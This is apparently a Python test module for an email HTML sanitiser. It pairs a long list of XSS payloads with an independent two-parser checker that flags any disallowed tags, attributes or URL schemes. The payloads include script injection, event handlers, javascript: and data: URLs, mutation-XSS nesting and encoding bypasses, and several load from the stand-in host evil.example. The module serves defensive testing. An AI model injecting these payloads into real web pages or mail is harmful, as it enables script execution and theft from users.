"""Hostile markup of our own making, and an independent eye for what is active in HTML."""

from collections.abc import Iterator
from html.parser import HTMLParser
from urllib.parse import urlsplit

import lxml.html

_KNOWN = """
    p br hr h2 h3 h4 h5 h6 ul ol li dl dt dd blockquote pre figure figcaption caption table thead tbody tr th td img
    a b strong em i u s del ins sub sup small mark abbr code kbd q cite bdi bdo
"""
TAGS = frozenset(_KNOWN.split())
ATTRIBUTES = {"href", "src", "alt", "width", "height", "start", "title", "colspan", "rowspan"}
SCHEMES = {"href": {"http", "https", "mailto", "tel"}, "src": {"http", "https", "cid"}}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script\n>",
    "<script/src=data:,alert(1)>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=`javascript:alert(1)`>",
    "<img src='jav&#x09;ascript:alert(1)'>",
    "<img src=javascript:alert(1)>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<img src=//evil.example/x.gif onload=alert(1)>",
    "<img srcset='javascript:alert(1) 1x, data:text/html,x 2x'>",
    "<img/src=x/onerror=alert(1)>",
    "<img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#0;script:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='\u00a0javascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example' onclick=alert(1) onmouseover=alert(1)>x</a>",
    "<a href='http://[::1'>x</a>",
    "<a href='https://'>x</a>",
    "<a ping=https://evil.example href=https://example.org>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<object type=text/x-scriptlet data=https://evil.example></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x archive=https://evil.example/x.jar></applet>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Set-Cookie content=x=1>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=import href=https://evil.example>",
    "<base href=javascript:alert(1)//>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='-moz-binding:url(https://evil.example/x.xml#x)'>x</p>",
    "<p class=x id=y data-x=z contenteditable tabindex=1 accesskey=x autofocus onfocus=alert(1)>x</p>",
    "<body onload=alert(1) background=https://evil.example/x.gif>x",
    "<table background=javascript:alert(1)><tr><td background=https://evil.example/x>x</td><td>y</td></table>",
    "<form action=javascript:alert(1)><input type=submit formaction=javascript:alert(1)>x</form>",
    "<button onclick=alert(1) formaction=javascript:alert(1)>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src onloadstart=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action=javascript:alert(1) type=image>",
    "<bgsound src=javascript:alert(1)>",
    "<layer src=https://evil.example></layer>",
    "<xml><i><b><img src=javascript:alert(1)></b></i></xml>",
    "<xss style='behavior:url(xss.htc)'>x</xss>",
    "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<!ENTITY x '<script>alert(1)</script>'>&x;",
    '<p title="\'>"><img src=x onerror=alert(1)>\'">x',
    "<a title='\"><img src=x onerror=alert(1)>' href=https://example.org>x</a>",
    "<a href='https://example.org/\"onmouseover=\"alert(1)'>x</a>",
    '<a href="https://example.org/\'><script>alert(1)</script>">x</a>',
    "<abbr title='\"><script>alert(1)</script>'>x</abbr>",
    "<img alt='\"><script>alert(1)</script>' src=https://example.org/x.png>",
    "<ol start='1 onclick=alert(1)'><li>x</ol>",
    "<td colspan='2\" onclick=\"alert(1)'>x</td>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u2028<script>alert(1)</script>\u2029",
    "\ufeff<script>alert(1)</script>",
    "<\u0000script>alert(1)</script>",
    "<p><table><form><p><script>alert(1)</script></form></table>",
    "<b><i><u>" * 200 + "<script>alert(1)</script>",
    "<div>" * 300 + "<img src=x onerror=alert(1)>",
]


def active(markup: str) -> Iterator[str]:
    """Yield what a mail must not carry, seen by two parsers that have no part in the sanitising."""
    if not markup.strip():
        return
    for element in lxml.html.document_fromstring(f"<html><body>{markup}</body></html>").find("body").iterdescendants():
        yield from _wrong(element.tag, dict(element.attrib))
    watcher = _Watcher()
    watcher.feed(markup)
    watcher.close()
    yield from watcher.found


def _wrong(tag: object, attributes: dict[str, str | None]) -> Iterator[str]:
    if tag not in TAGS:
        yield f"<{tag}>"
    for name, value in attributes.items():
        if name not in ATTRIBUTES:
            yield f"<{tag} {name}>"
        elif name in SCHEMES and urlsplit(value or "").scheme not in SCHEMES[name]:
            yield f"<{tag} {name}={value!r}>"


class _Watcher(HTMLParser):
    """The standard library's parser, which ends tags and attributes by other rules than libxml2."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += _wrong(tag, dict(attrs))

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}>")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"<![{data}>")
